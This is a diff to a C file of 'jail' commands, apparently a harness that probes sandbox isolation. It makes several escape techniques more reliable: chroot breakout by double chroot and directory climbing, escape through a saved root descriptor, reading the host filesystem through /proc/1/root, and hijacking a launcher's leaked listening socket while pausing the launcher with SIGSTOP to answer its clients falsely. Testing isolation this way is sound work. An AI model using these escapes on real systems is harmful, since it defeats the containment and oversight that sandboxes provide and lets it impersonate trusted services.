@@ -5,14 +5,14 @@
 #include <errno.h>
 #include <fcntl.h>
 #include <poll.h>
+#include <signal.h>
 #include <stdio.h>
 #include <string.h>
 #include <sys/mount.h>
 #include <sys/socket.h>
-#include <sys/stat.h>
 #include <unistd.h>
 
-enum { DEEPEST = 64, FIRST_LEFT_OPEN = 3, MOST_DESCRIPTORS = 256 };
+enum { DEEPEST = 64, FIRST_LEFT_OPEN = 3, MOST_DESCRIPTORS = 256, PATIENCE_MS = 3000 };
 
 /* chroot moves the root and not the working directory: from outside of the new root, .. leads past the old one. */
 static bool climb(void)
@@ -23,11 +23,10 @@ static bool climb(void)
 	return chroot(".") == 0;
 }
 
-/* !escape PATH */
+/* !escape PATH : any directory will do, and it need not be made. */
 static void escape(const struct request *request)
 {
-	mkdir("/tmp/deeper", 0755);
-	if (chroot("/tmp/deeper") != 0 || !climb())
+	if (chroot("/tmp") != 0 || !climb())
 		answer_errno("escape");
 	else
 		answer_file("escape", open(word(request, 1), O_RDONLY));
@@ -37,23 +36,22 @@ static void escape(const struct request *request)
 static void escape_by_descriptor(const struct request *request)
 {
 	int old = open("/", O_RDONLY | O_DIRECTORY);
-	mkdir("/tmp/deeper", 0755);
-	if (old < 0 || chroot("/tmp/deeper") != 0 || fchdir(old) != 0 || !climb())
+	if (old < 0 || chdir("/tmp") != 0 || chroot("/tmp") != 0 || fchdir(old) != 0 || !climb())
 		answer_errno("escape-fd");
 	else
 		answer_file("escape-fd", open(word(request, 1), O_RDONLY));
 }
 
-/* !escape-mount PATH : /proc has the root of the first process. */
+/* !escape-mount PATH : /proc has the root of the first process. It may be there already. */
 static void escape_by_mount(const struct request *request)
 {
 	char path[LINE_SIZE + 32];
-	if (mount("proc", "/proc", "proc", 0, NULL) != 0) {
-		answer_errno("escape-mount");
-		return;
-	}
+	int failed = mount("proc", "/proc", "proc", 0, NULL) != 0 ? errno : 0;
 	snprintf(path, sizeof path, "/proc/1/root%s", word(request, 1));
-	answer_file("escape-mount", open(path, O_RDONLY));
+	int file = open(path, O_RDONLY);
+	if (file < 0 && failed != 0)
+		errno = failed;
+	answer_file("escape-mount", file);
 }
 
 /* !root-of PID PATH */
@@ -81,40 +79,51 @@ static void by_left_descriptors(const struct request *request)
 	answer_errno("fds");
 }
 
-static bool is_listener(int fd)
+/* The first left open descriptor that listens, or -1. */
+static int left_listener(void)
 {
-	int listening = 0;
-	socklen_t size = sizeof listening;
-	return getsockopt(fd, SOL_SOCKET, SO_ACCEPTCONN, &listening, &size) == 0 && listening;
+	for (int fd = FIRST_LEFT_OPEN; fd < MOST_DESCRIPTORS; fd++) {
+		int listening = 0;
+		socklen_t size = sizeof listening;
+		if (getsockopt(fd, SOL_SOCKET, SO_ACCEPTCONN, &listening, &size) == 0 && listening)
+			return fd;
+	}
+	return -1;
 }
 
-/* !steal : the listening socket that the launcher left open gives this process the next clients, in its place. */
-static void steal(const struct request *request)
+/* Answers the next client of the listener in the launcher's place. */
+static void take_from(int listener)
 {
-	(void)request;
-	for (int fd = FIRST_LEFT_OPEN; fd < MOST_DESCRIPTORS; fd++) {
-		if (!is_listener(fd))
-			continue;
-		struct pollfd waiting = {.fd = fd, .events = POLLIN};
-		answer("steal", "waiting");
-		/* The launcher wakes up for the same client: whoever is first has it. */
-		for (int tries = 0; tries < 20000 && poll(&waiting, 1, 3000) > 0; tries++) {
-			int client = accept4(fd, NULL, NULL, SOCK_CLOEXEC);
-			if (client < 0)
-				continue;
-			char line[LINE_SIZE];
-			ssize_t length = read(client, line, sizeof line - 1);
-			write_all(client, "fake answer\n", 12);
-			close(client);
-			line[length > 0 ? length : 0] = '\0';
-			line[strcspn(line, "\n")] = '\0';
-			answer("stolen", line);
-			return;
-		}
+	struct pollfd waiting[] = {{.fd = listener, .events = POLLIN}, {.fd = 0, .events = POLLRDHUP}};
+	answer("steal", "waiting");
+	poll(waiting, 2, PATIENCE_MS);
+	int client = waiting[0].revents != 0 ? accept(listener, NULL, NULL) : -1;
+	if (client < 0) {
 		answer("steal", "nobody came");
 		return;
 	}
-	answer("steal", "EBADF");
+	char line[LINE_SIZE];
+	ssize_t length = read(client, line, sizeof line - 1);
+	write_all(client, "fake answer\n", 12);
+	close(client);
+	line[length > 0 ? length : 0] = '\0';
+	line[strcspn(line, "\n")] = '\0';
+	answer("stolen", line);
+}
+
+/* !steal : the listening socket that the launcher left open gives this process the next clients as well. */
+static void steal(const struct request *request)
+{
+	(void)request;
+	int listener = left_listener();
+	if (listener < 0) {
+		answer("steal", "EBADF");
+		return;
+	}
+	/* Whoever wakes up first has the client. A thief who is root lets the launcher sleep. */
+	kill(getppid(), SIGSTOP);
+	take_from(listener);
+	kill(getppid(), SIGCONT);
 }
 
 const struct command jail_commands[] = {
